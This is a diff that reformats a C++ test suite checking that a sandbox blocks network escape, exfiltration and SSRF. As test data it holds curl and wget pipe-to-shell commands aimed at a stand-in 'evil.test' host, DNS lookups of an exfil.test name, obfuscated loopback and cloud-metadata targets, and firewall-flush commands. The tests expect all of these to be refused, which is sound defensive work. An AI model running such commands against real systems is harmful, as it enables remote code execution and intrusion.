@@ -21,8 +21,8 @@ namespace {
 
 constexpr int kTimeoutMs = 60000;
 
-ajtest::RunOutput in_bash(ajtest::Jail& jail, const std::string& script, const std::vector<std::string>& flags,
-                          bool record = true) {
+ajtest::RunOutput in_bash(ajtest::Jail& jail, const std::string& script,
+                          const std::vector<std::string>& flags, bool record = true) {
     std::vector<std::string> args = cat(jail.base(), flags);
     args.insert(args.end(), {"--", "/bin/bash", "-c", script});
     ajtest::RunOptions o;
@@ -52,7 +52,9 @@ std::string status_of(const std::string& out, const std::string& label) {
     return "<missing>";
 }
 
-bool is_403(const std::string& status) { return status.rfind("HTTP/1.1 403", 0) == 0 || status.rfind("HTTP/1.0 403", 0) == 0; }
+bool is_403(const std::string& status) {
+    return status.rfind("HTTP/1.1 403", 0) == 0 || status.rfind("HTTP/1.0 403", 0) == 0;
+}
 
 class NetFixture {
 public:
@@ -67,21 +69,27 @@ public:
 // No default route, IPv4 or IPv6, in either sandboxed mode (the proxy mode adds a
 // listening socket, not a route). Control: the host's network has one.
 TEST_F(Escape, NET01_NoDefaultRoute) {
-    std::string script = "ip -4 route; echo ---; ip -6 route; echo ---; " + helper("netprobe") + " ifaces";
+    std::string script =
+        "ip -4 route; echo ---; ip -6 route; echo ---; " + helper("netprobe") + " ifaces";
     for (const char* mode : {"none", "proxy"}) {
         auto r = in_bash(jail, script, {"--net", mode});
         ASSERT_EQ(r.status, 0) << mode << "\n" << describe(r);
-        EXPECT_FALSE(ajtest::contains(r.out, "default")) << "a default route in --net " << mode << "\n" << describe(r);
+        EXPECT_FALSE(ajtest::contains(r.out, "default"))
+            << "a default route in --net " << mode << "\n"
+            << describe(r);
         EXPECT_EQ(field(r.out, "ifaces"), "lo") << mode << "\n" << describe(r);
     }
     auto host = ajtest::run({"ip", "route"});
     if (!ajtest::contains(host.out, "default")) {
-        std::cout << "[   NOTE   ] the host has no default route: the --net host control is not informative\n";
+        std::cout << "[   NOTE   ] the host has no default route: the --net host control is not "
+                     "informative\n";
         return;
     }
     auto c = in_bash(jail, script, {"--net", "host"}, false);
     ASSERT_EQ(c.status, 0) << describe(c);
-    EXPECT_TRUE(ajtest::contains(c.out, "default")) << "control: --net host shows no default route\n" << describe(c);
+    EXPECT_TRUE(ajtest::contains(c.out, "default"))
+        << "control: --net host shows no default route\n"
+        << describe(c);
 }
 
 // TCP to public addresses (IPv4 and IPv6) by a program that ignores HTTP_PROXY:
@@ -89,14 +97,16 @@ TEST_F(Escape, NET01_NoDefaultRoute) {
 // ECONNREFUSED from a closed loopback port (a real connect), and OK from the proxy.
 TEST_F(Escape, NET01_TcpToPublicAddressesIsUnreachable) {
     std::string probe = helper("netprobe") +
-                        " tcp 1.1.1.1 443 tcp 8.8.8.8 53 tcp 2606:4700:4700::1111 443 tcp 127.0.0.1 9 tcp 127.0.0.1 3128";
+                        " tcp 1.1.1.1 443 tcp 8.8.8.8 53 tcp 2606:4700:4700::1111 443 tcp "
+                        "127.0.0.1 9 tcp 127.0.0.1 3128";
     auto r = in_bash(jail, probe, {"--net", "proxy"});
     ASSERT_EQ(r.status, 0) << describe(r);
     EXPECT_EQ(field(r.out, "tcp:1.1.1.1:443"), "ENETUNREACH") << describe(r);
     EXPECT_EQ(field(r.out, "tcp:8.8.8.8:53"), "ENETUNREACH") << describe(r);
     EXPECT_EQ(field(r.out, "tcp:2606:4700:4700::1111:443"), "ENETUNREACH") << describe(r);
     EXPECT_EQ(field(r.out, "tcp:127.0.0.1:9"), "ECONNREFUSED") << "control\n" << describe(r);
-    EXPECT_EQ(field(r.out, "tcp:127.0.0.1:3128"), "OK") << "control: the proxy's port\n" << describe(r);
+    EXPECT_EQ(field(r.out, "tcp:127.0.0.1:3128"), "OK") << "control: the proxy's port\n"
+                                                        << describe(r);
 }
 
 // bash's /dev/tcp: "Network is unreachable". Control: /dev/tcp to the proxy's port
@@ -115,12 +125,14 @@ TEST_F(Escape, NET01_DevTcpIsUnreachable) {
 // UDP (a DNS query to a public resolver, IPv4 and IPv6): sendto fails with
 // ENETUNREACH, from the C probe and from Python. Control: sendto on loopback works.
 TEST_F(Escape, NET01_UdpSendtoIsUnreachable) {
-    std::string script = helper("netprobe") + " udp 8.8.8.8 53 udp 2001:4860:4860::8888 53 udp 127.0.0.1 53";
+    std::string script =
+        helper("netprobe") + " udp 8.8.8.8 53 udp 2001:4860:4860::8888 53 udp 127.0.0.1 53";
     if (ajtest::exists("/usr/bin/python3"))
-        script += "; /usr/bin/python3 -c \"import socket,errno\n"
-                  "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
-                  "try:\n s.sendto(b'x',('8.8.8.8',53)); print('py=OK')\n"
-                  "except OSError as e: print('py='+errno.errorcode[e.errno])\"";
+        script +=
+            "; /usr/bin/python3 -c \"import socket,errno\n"
+            "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
+            "try:\n s.sendto(b'x',('8.8.8.8',53)); print('py=OK')\n"
+            "except OSError as e: print('py='+errno.errorcode[e.errno])\"";
     auto r = in_bash(jail, script, {"--net", "proxy"});
     ASSERT_EQ(r.status, 0) << describe(r);
     EXPECT_EQ(field(r.out, "udp:8.8.8.8:53"), "ENETUNREACH") << describe(r);
@@ -142,14 +154,18 @@ TEST_F(Escape, NET01_ProxyBypassCannotReachHostLoopback) {
     NetPolicy p;
     p.allow = {"example.test:" + std::to_string(allowed.port())};
     p.hosts = {{"example.test", "127.0.0.1"}};
-    std::string direct = "curl -sS --max-time 5 --noproxy '*' -o /dev/null -w 'code=%{http_code}\\n' http://127.0.0.1:" +
-                         std::to_string(victim.port()) + "/hello; echo exit=$?";
-    std::string control = "; curl -sS --max-time 10 http://example.test:" + std::to_string(allowed.port()) + "/hello";
+    std::string direct =
+        "curl -sS --max-time 5 --noproxy '*' -o /dev/null -w 'code=%{http_code}\\n' "
+        "http://127.0.0.1:" +
+        std::to_string(victim.port()) + "/hello; echo exit=$?";
+    std::string control =
+        "; curl -sS --max-time 10 http://example.test:" + std::to_string(allowed.port()) + "/hello";
     auto r = in_bash(jail, direct + control, {"-p", f.policy(p)});
     ASSERT_EQ(r.status, 0) << describe(r);
     EXPECT_EQ(field(r.out, "exit"), "7") << "curl should fail to connect (exit 7)\n" << describe(r);
     EXPECT_EQ(victim.connections(), 0) << "the host's loopback server was reached from inside";
-    EXPECT_TRUE(ajtest::contains(r.out, "hello from allowed")) << "control through the proxy\n" << describe(r);
+    EXPECT_TRUE(ajtest::contains(r.out, "hello from allowed")) << "control through the proxy\n"
+                                                               << describe(r);
 
     auto h = jail.host_sh(direct);
     EXPECT_EQ(field(h.out, "code"), "200") << "control on the host\n" << describe(h);
@@ -187,11 +203,15 @@ TEST_F(Escape, NET01_RawSocketsAreRefused) {
 TEST_F(Escape, NET02_NoResolverInside) {
     std::string exfil = unique_name("x") + ".exfil.test";
     std::string script =
-        "getent hosts " + exfil + "; echo exfil=$?; getent hosts example.com; echo public=$?; "
+        "getent hosts " + exfil +
+        "; echo exfil=$?; getent hosts example.com; echo public=$?; "
         "getent hosts localhost >/dev/null; echo localhost=$?; "
         "for ns in $(awk '$1==\"nameserver\"{print $2}' /etc/resolv.conf 2>/dev/null); do "
-        "  case $ns in 127.*|::1) echo loopback_ns=$ns ;; *) " + helper("netprobe") + " udp $ns 53 tcp $ns 53 ;; esac; "
-        "done; " + helper("netprobe") + " udp 127.0.0.1 53";
+        "  case $ns in 127.*|::1) echo loopback_ns=$ns ;; *) " +
+        helper("netprobe") +
+        " udp $ns 53 tcp $ns 53 ;; esac; "
+        "done; " +
+        helper("netprobe") + " udp 127.0.0.1 53";
     auto r = in_bash(jail, script, {"--net", "proxy"});
     ASSERT_EQ(r.status, 0) << describe(r);
     EXPECT_EQ(field(r.out, "exfil"), "2") << describe(r);
@@ -221,8 +241,9 @@ TEST_F(Escape, NET02_ProxyDoesNotResolveRefusedNames) {
     NetPolicy p;
     p.allow = {"example.test:" + std::to_string(s.port()), "localhost:" + std::to_string(s.port())};
     p.hosts = {{"example.test", "127.0.0.1"}};
-    std::string script = std::string(kRawRequest) + "req exfil '" + connect_req(exfil + ":443") + "'; req exfilget '" +
-                         get_req("http://" + exfil + "/", exfil) + "'; req localhost '" +
+    std::string script = std::string(kRawRequest) + "req exfil '" + connect_req(exfil + ":443") +
+                         "'; req exfilget '" + get_req("http://" + exfil + "/", exfil) +
+                         "'; req localhost '" +
                          connect_req("localhost:" + std::to_string(s.port())) + "'";
     auto r = in_bash(jail, script, {"-p", f.policy(p), "--net-log", f.log_path()});
     ASSERT_EQ(r.status, 0) << describe(r);
@@ -233,8 +254,10 @@ TEST_F(Escape, NET02_ProxyDoesNotResolveRefusedNames) {
     ASSERT_EQ(d.size(), 2u) << ajnet::dump(log);
     for (const auto& e : d) {
         std::string reason = e.value("reason", "");
-        EXPECT_FALSE(ajtest::contains(reason, "resolve")) << "the refused name was looked up: " << e.dump();
-        EXPECT_FALSE(ajtest::contains(reason, "address")) << "the refused name was looked up: " << e.dump();
+        EXPECT_FALSE(ajtest::contains(reason, "resolve"))
+            << "the refused name was looked up: " << e.dump();
+        EXPECT_FALSE(ajtest::contains(reason, "address"))
+            << "the refused name was looked up: " << e.dump();
         EXPECT_FALSE(e.contains("address") && !e["address"].is_null() && e["address"] != "")
             << "the refused name has an address in the log: " << e.dump();
     }
@@ -253,8 +276,10 @@ TEST_F(Escape, NET02_ProxyDoesNotResolveRefusedNames) {
 // then the control: the pinned name example.test reaches `control` through the same
 // proxy. Expects 403 for every attack, a deny line each, and no connection at the
 // canary.
-void expect_ssrf_refused(ajtest::Jail& jail, const std::vector<std::pair<std::string, std::string>>& attacks,
-                         const TestServer& canary, const std::vector<std::string>& extra_flags = {}) {
+void expect_ssrf_refused(ajtest::Jail& jail,
+                         const std::vector<std::pair<std::string, std::string>>& attacks,
+                         const TestServer& canary,
+                         const std::vector<std::string>& extra_flags = {}) {
     NetFixture f;
     TestServer control({"control"});
     NetPolicy p;
@@ -262,48 +287,59 @@ void expect_ssrf_refused(ajtest::Jail& jail, const std::vector<std::pair<std::st
     p.hosts = {{"example.test", "127.0.0.1"}};
     std::string script = kRawRequest;
     for (const auto& [label, req] : attacks) script += "req '" + label + "' '" + req + "'; ";
-    script += "curl -sS --max-time 10 -p http://example.test:" + std::to_string(control.port()) + "/hello";
-    auto flags = cat({"-p", f.policy(p), "--net-preset", "open", "--net-log", f.log_path()}, extra_flags);
+    script += "curl -sS --max-time 10 -p http://example.test:" + std::to_string(control.port()) +
+              "/hello";
+    auto flags =
+        cat({"-p", f.policy(p), "--net-preset", "open", "--net-log", f.log_path()}, extra_flags);
     auto r = in_bash(jail, script, flags);
     ASSERT_EQ(r.status, 0) << describe(r);
     for (const auto& [label, req] : attacks)
-        EXPECT_TRUE(is_403(status_of(r.out, label))) << label << ": " << status_of(r.out, label) << "\n" << describe(r);
+        EXPECT_TRUE(is_403(status_of(r.out, label)))
+            << label << ": " << status_of(r.out, label) << "\n"
+            << describe(r);
     EXPECT_EQ(canary.connections(), 0) << "the host canary server was reached\n" << describe(r);
     auto log = f.log();
     int denies = 0;
     for (const auto& e : log) denies += e.value("decision", "") == "deny";
     EXPECT_EQ(denies, static_cast<int>(attacks.size())) << ajnet::dump(log);
     EXPECT_TRUE(ajtest::contains(r.out, "hello from control"))
-        << "control: the proxy did not reach a pinned loopback server\n" << describe(r);
+        << "control: the proxy did not reach a pinned loopback server\n"
+        << describe(r);
 }
 
 TEST_F(Escape, NET03_ConnectToHostLoopbackAddress) {
     TestServer canary({"canary"});
     std::string t = "127.0.0.1:" + std::to_string(canary.port());
-    expect_ssrf_refused(jail, {{"connect", connect_req(t)}, {"get", get_req("http://" + t + "/hello", t)}}, canary);
+    expect_ssrf_refused(
+        jail, {{"connect", connect_req(t)}, {"get", get_req("http://" + t + "/hello", t)}}, canary);
 }
 
 TEST_F(Escape, NET03_ConnectToLocalhostName) {
     TestServer canary({"canary"});
     std::string t = "localhost:" + std::to_string(canary.port());
-    expect_ssrf_refused(jail, {{"connect", connect_req(t)}, {"upper", connect_req("LOCALHOST.:" + std::to_string(canary.port()))}},
+    expect_ssrf_refused(jail,
+                        {{"connect", connect_req(t)},
+                         {"upper", connect_req("LOCALHOST.:" + std::to_string(canary.port()))}},
                         canary);
 }
 
 TEST_F(Escape, NET03_ConnectToIpv6Loopback) {
     TestServer canary({"canary6", nullptr, true});
     std::string port = std::to_string(canary.port());
-    expect_ssrf_refused(jail, {{"v6", connect_req("[::1]:" + port)}, {"v6long", connect_req("[0:0:0:0:0:0:0:1]:" + port)}},
+    expect_ssrf_refused(jail,
+                        {{"v6", connect_req("[::1]:" + port)},
+                         {"v6long", connect_req("[0:0:0:0:0:0:0:1]:" + port)}},
                         canary);
 }
 
 TEST_F(Escape, NET03_CloudMetadataAddress) {
     TestServer canary({"canary"});
-    expect_ssrf_refused(jail,
-                        {{"get", get_req("http://169.254.169.254/latest/meta-data/", "169.254.169.254")},
-                         {"connect", connect_req("169.254.169.254:80")},
-                         {"ec2v6", connect_req("[fd00:ec2::254]:80")}},
-                        canary);
+    expect_ssrf_refused(
+        jail,
+        {{"get", get_req("http://169.254.169.254/latest/meta-data/", "169.254.169.254")},
+         {"connect", connect_req("169.254.169.254:80")},
+         {"ec2v6", connect_req("[fd00:ec2::254]:80")}},
+        canary);
 }
 
 TEST_F(Escape, NET03_PrivateNetworkAddresses) {
@@ -322,8 +358,10 @@ TEST_F(Escape, NET03_PrivateNetworkAddresses) {
 TEST_F(Escape, NET03_UnspecifiedAddress) {
     TestServer canary({"canary"});
     std::string port = std::to_string(canary.port());
-    expect_ssrf_refused(jail, {{"zero", connect_req("0.0.0.0:" + port)}, {"zero6", connect_req("[::]:" + port)},
-                               {"zeroshort", connect_req("0:" + port)}},
+    expect_ssrf_refused(jail,
+                        {{"zero", connect_req("0.0.0.0:" + port)},
+                         {"zero6", connect_req("[::]:" + port)},
+                         {"zeroshort", connect_req("0:" + port)}},
                         canary);
 }
 
@@ -332,9 +370,9 @@ TEST_F(Escape, NET03_NumericSpellingsOfLoopback) {
     TestServer canary({"canary"});
     std::string port = ":" + std::to_string(canary.port());
     std::vector<std::pair<std::string, std::string>> attacks;
-    for (const char* h : {"127.1", "127.0.1", "0x7f.0.0.1", "0x7f.1", "2130706433", "0x7f000001", "017700000001",
-                          "0177.0.0.1", "127.0.0.1.", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]",
-                          "[64:ff9b::127.0.0.1]"})
+    for (const char* h : {"127.1", "127.0.1", "0x7f.0.0.1", "0x7f.1", "2130706433", "0x7f000001",
+                          "017700000001", "0177.0.0.1", "127.0.0.1.", "[::ffff:127.0.0.1]",
+                          "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::127.0.0.1]"})
         attacks.emplace_back(h, connect_req(h + port));
     expect_ssrf_refused(jail, attacks, canary);
 }
@@ -345,9 +383,11 @@ TEST_F(Escape, NET03_NumericSpellingsOfLoopback) {
 TEST_F(Escape, NET03_AllowedNameResolvingToLoopback) {
     TestServer canary({"canary"});
     std::string port = std::to_string(canary.port());
-    expect_ssrf_refused(jail, {{"localhost", connect_req("localhost:" + port)},
-                               {"localhostget", get_req("http://localhost:" + port + "/", "localhost:" + port)}},
-                        canary, {"--allow-host", "localhost:" + port});
+    expect_ssrf_refused(
+        jail,
+        {{"localhost", connect_req("localhost:" + port)},
+         {"localhostget", get_req("http://localhost:" + port + "/", "localhost:" + port)}},
+        canary, {"--allow-host", "localhost:" + port});
 }
 
 // A Host header that disagrees with the request target: the proxy connects to
@@ -364,17 +404,21 @@ TEST_F(Escape, NET03_HostHeaderCannotRedirect) {
 // whatever the method; the log agrees with what the server received (the control).
 TEST_F(Escape, NET06_EveryRequestIsLoggedWithBytes) {
     NetFixture f;
-    auto c = ajnet::make_cert(jail.ws() + "/ca.pem", f.scratch.path() + "/key.pem", {"example.test"});
+    auto c =
+        ajnet::make_cert(jail.ws() + "/ca.pem", f.scratch.path() + "/key.pem", {"example.test"});
     TestServer s({"sink"});
     TestServer tls({"sink-tls", &c});
     NetPolicy p;
-    p.allow = {"example.test:" + std::to_string(s.port()), "example.test:" + std::to_string(tls.port())};
+    p.allow = {"example.test:" + std::to_string(s.port()),
+               "example.test:" + std::to_string(tls.port())};
     p.hosts = {{"example.test", "127.0.0.1"}};
     std::string base = "http://example.test:" + std::to_string(s.port());
     std::string script =
         "head -c 3000 /dev/zero > up.bin; C='curl -sS --max-time 15 -o /dev/null'; "
-        "$C " + base + "/bytes/50000; $C --data-binary @up.bin " + base + "/post; $C -T up.bin " + base +
-        "/put; $C -I " + base + "/hello; $C --cacert ca.pem https://example.test:" + std::to_string(tls.port()) +
+        "$C " +
+        base + "/bytes/50000; $C --data-binary @up.bin " + base + "/post; $C -T up.bin " + base +
+        "/put; $C -I " + base +
+        "/hello; $C --cacert ca.pem https://example.test:" + std::to_string(tls.port()) +
         "/bytes/20000; $C http://exfil.test/; rm -f up.bin";
     auto r = in_bash(jail, script, {"-p", f.policy(p), "--net-log", f.log_path()});
     ASSERT_EQ(r.status, 0) << describe(r);
@@ -383,12 +427,15 @@ TEST_F(Escape, NET06_EveryRequestIsLoggedWithBytes) {
     ASSERT_EQ(allowed.size(), 5u) << ajnet::dump(log);
     std::vector<std::string> methods;
     for (const auto& e : allowed) methods.push_back(e.value("method", ""));
-    EXPECT_EQ(methods, (std::vector<std::string>{"GET", "POST", "PUT", "HEAD", "CONNECT"})) << ajnet::dump(log);
+    EXPECT_EQ(methods, (std::vector<std::string>{"GET", "POST", "PUT", "HEAD", "CONNECT"}))
+        << ajnet::dump(log);
     EXPECT_GE(allowed[0].value("bytes_down", 0), 50000) << allowed[0].dump();
     EXPECT_GE(allowed[1].value("bytes_up", 0), 3000) << allowed[1].dump();
     EXPECT_GE(allowed[2].value("bytes_up", 0), 3000) << allowed[2].dump();
     EXPECT_GE(allowed[4].value("bytes_down", 0), 20000) << allowed[4].dump();
-    for (const auto& e : allowed) EXPECT_EQ(e.value("port", 0) == s.port() || e.value("port", 0) == tls.port(), true) << e.dump();
+    for (const auto& e : allowed)
+        EXPECT_EQ(e.value("port", 0) == s.port() || e.value("port", 0) == tls.port(), true)
+            << e.dump();
     EXPECT_EQ(ajnet::log_entries(log, "exfil.test", "deny").size(), 1u) << ajnet::dump(log);
     // Control: the server saw exactly the requests the log lists.
     auto reqs = s.requests();
@@ -406,24 +453,28 @@ TEST_F(Escape, NET07_CurlPipeShFromDeniedHost) {
     NetFixture f;
     TestServer evil({"evil"});
     std::string mark = unique_name("pwned-");
-    evil.set_body("/install.sh", "#!/bin/sh\ntouch " + jail.ws() + "/" + mark + "\necho installed\n");
+    evil.set_body("/install.sh",
+                  "#!/bin/sh\ntouch " + jail.ws() + "/" + mark + "\necho installed\n");
     NetPolicy p;
     p.allow = {"example.test"};
     p.hosts = {{"evil.test", "127.0.0.1"}};
     std::string pol = f.policy(p);
     std::string url = "http://evil.test:" + std::to_string(evil.port()) + "/install.sh";
-    std::string script = "curl -fsSL --max-time 10 " + url + " | sh; wget -q -T 10 -O- " + url + " | sh; true";
+    std::string script =
+        "curl -fsSL --max-time 10 " + url + " | sh; wget -q -T 10 -O- " + url + " | sh; true";
     auto r = in_bash(jail, script, {"-p", pol, "--net-log", f.log_path()});
     EXPECT_EQ(r.status, 0) << describe(r);
     EXPECT_FALSE(ajtest::exists(jail.ws() + "/" + mark)) << "the payload ran\n" << describe(r);
     EXPECT_EQ(evil.connections(), 0);
     EXPECT_EQ(ajnet::log_entries(f.log(), "evil.test", "deny").size(), 2u) << ajnet::dump(f.log());
 
-    auto c = in_bash(jail, "curl -fsSL --max-time 10 " + url + " | sh",
-                     {"-p", pol, "--allow-host", "evil.test:" + std::to_string(evil.port())}, false);
+    auto c =
+        in_bash(jail, "curl -fsSL --max-time 10 " + url + " | sh",
+                {"-p", pol, "--allow-host", "evil.test:" + std::to_string(evil.port())}, false);
     EXPECT_EQ(c.status, 0) << describe(c);
-    EXPECT_TRUE(ajtest::exists(jail.ws() + "/" + mark)) << "control: the payload did not run when allowed\n"
-                                                        << describe(c);
+    EXPECT_TRUE(ajtest::exists(jail.ws() + "/" + mark))
+        << "control: the payload did not run when allowed\n"
+        << describe(c);
 }
 
 // ---- NET-09 reconfiguring the sandbox network --------------------------------------
@@ -435,7 +486,8 @@ ajtest::RunOutput privileged_control(const std::string& script) {
 }
 
 TEST_F(Escape, NET09_LoopbackCannotBeTakenDown) {
-    std::string script = "ip link set lo down; echo ip=$?; " + helper("netprobe") + " lo_down ifaces";
+    std::string script =
+        "ip link set lo down; echo ip=$?; " + helper("netprobe") + " lo_down ifaces";
     auto r = in_bash(jail, script, {"--net", "proxy"});
     ASSERT_EQ(r.status, 0) << describe(r);
     EXPECT_EQ(field(r.out, "ip"), "2") << describe(r);
@@ -447,7 +499,8 @@ TEST_F(Escape, NET09_LoopbackCannotBeTakenDown) {
 }
 
 TEST_F(Escape, NET09_AddressesCannotBeAdded) {
-    std::string script = "ip addr add 10.0.0.2/8 dev lo; echo ip=$?; " + helper("netprobe") + " lo_addr; ip -4 addr";
+    std::string script =
+        "ip addr add 10.0.0.2/8 dev lo; echo ip=$?; " + helper("netprobe") + " lo_addr; ip -4 addr";
     auto r = in_bash(jail, script, {});
     ASSERT_EQ(r.status, 0) << describe(r);
     EXPECT_EQ(field(r.out, "ip"), "2") << describe(r);
@@ -459,7 +512,9 @@ TEST_F(Escape, NET09_AddressesCannotBeAdded) {
 }
 
 TEST_F(Escape, NET09_RoutesCannotBeAdded) {
-    std::string script = "ip route add default dev lo; echo ip=$?; ip -6 route add default dev lo; echo ip6=$?; ip route";
+    std::string script =
+        "ip route add default dev lo; echo ip=$?; ip -6 route add default dev lo; echo ip6=$?; ip "
+        "route";
     auto r = in_bash(jail, script, {});
     ASSERT_EQ(r.status, 0) << describe(r);
     EXPECT_EQ(field(r.out, "ip"), "2") << describe(r);
@@ -481,8 +536,11 @@ TEST_F(Escape, NET09_InterfacesCannotBeCreated) {
             break;
         }
     }
-    if (type.empty()) GTEST_SKIP() << "no interface type can be created here even with CAP_NET_ADMIN";
-    auto r = in_bash(jail, "ip link add aj0 type " + type + "; echo ip=$?; " + helper("netprobe") + " ifaces", {});
+    if (type.empty())
+        GTEST_SKIP() << "no interface type can be created here even with CAP_NET_ADMIN";
+    auto r = in_bash(
+        jail, "ip link add aj0 type " + type + "; echo ip=$?; " + helper("netprobe") + " ifaces",
+        {});
     ASSERT_EQ(r.status, 0) << describe(r);
     EXPECT_EQ(field(r.out, "ip"), "2") << type << "\n" << describe(r);
     EXPECT_TRUE(ajtest::contains(r.err, "Operation not permitted")) << describe(r);
@@ -493,16 +551,19 @@ TEST_F(Escape, NET09_InterfacesCannotBeCreated) {
 // CAP_NET_ADMIN; neither tool is installed here, so the probe makes iptables' first
 // call. Where the tools exist they are run too.
 TEST_F(Escape, NET09_FirewallCannotBeChanged) {
-    std::string script = helper("netprobe") + " raw_ip; "
-                         "for t in iptables nft; do command -v $t >/dev/null || { echo $t=absent; continue; }; "
-                         "if [ $t = iptables ]; then iptables -F; else nft flush ruleset; fi; echo $t=$?; done";
+    std::string script =
+        helper("netprobe") +
+        " raw_ip; "
+        "for t in iptables nft; do command -v $t >/dev/null || { echo $t=absent; continue; }; "
+        "if [ $t = iptables ]; then iptables -F; else nft flush ruleset; fi; echo $t=$?; done";
     auto r = in_bash(jail, script, {});
     ASSERT_EQ(r.status, 0) << describe(r);
     EXPECT_EQ(field(r.out, "raw_ip"), "EPERM") << describe(r);
     for (const char* t : {"iptables", "nft"}) {
         std::string v = field(r.out, t);
         EXPECT_TRUE(v == "absent" || (v != "0" && v != "<missing>")) << t << "\n" << describe(r);
-        if (v == "absent") std::cout << "[   NOTE   ] " << t << " is not installed: only the probe ran\n";
+        if (v == "absent")
+            std::cout << "[   NOTE   ] " << t << " is not installed: only the probe ran\n";
     }
     auto c = privileged_control(helper("netprobe") + " raw_ip");
     EXPECT_EQ(field(c.out, "raw_ip"), "OK") << "control\n" << describe(c);
@@ -522,7 +583,9 @@ TEST_F(Escape, NET09_TunAndSysctlAreClosed) {
     }
     auto c = ajtest::run({helper("netprobe"), "tun", "ip_forward"});
     EXPECT_EQ(field(c.out, "ip_forward"), "OK") << "control\n" << describe(c);
-    if (field(c.out, "tun") != "OK") std::cout << "[   NOTE   ] the host has no usable /dev/net/tun: " << field(c.out, "tun") << "\n";
+    if (field(c.out, "tun") != "OK")
+        std::cout << "[   NOTE   ] the host has no usable /dev/net/tun: " << field(c.out, "tun")
+                  << "\n";
 }
 
 }  // namespace
